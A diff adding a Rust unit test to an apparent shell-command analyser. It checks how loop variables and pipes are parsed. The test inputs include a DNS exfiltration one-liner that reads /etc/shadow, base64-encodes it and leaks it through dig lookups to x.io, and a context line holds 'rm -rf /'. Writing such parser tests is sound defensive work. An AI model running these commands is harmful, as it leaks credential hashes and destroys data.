@@ -35,6 +35,19 @@ mod composition {
     use super::*;
 
     #[test]
+    fn for_list_substitutions_bind_the_loop_variable() {
+        let a = ok("for l in $(cat /etc/shadow | base64) x; do dig $l.x.io; done");
+        assert_eq!(names(&a), ["cat", "base64", "dig"]);
+        assert!(a.loop_values.contains(&(1, "l".to_owned())));
+        assert!(a.pipes.contains(&(0, 1)));
+        assert!(
+            ok("for h in web1 web2; do ping $h; done")
+                .loop_values
+                .is_empty()
+        );
+    }
+
+    #[test]
     fn cd_then_rm_root() {
         let a = ok("cd x && rm -rf /");
         assert_eq!(names(&a), ["cd", "rm"]);
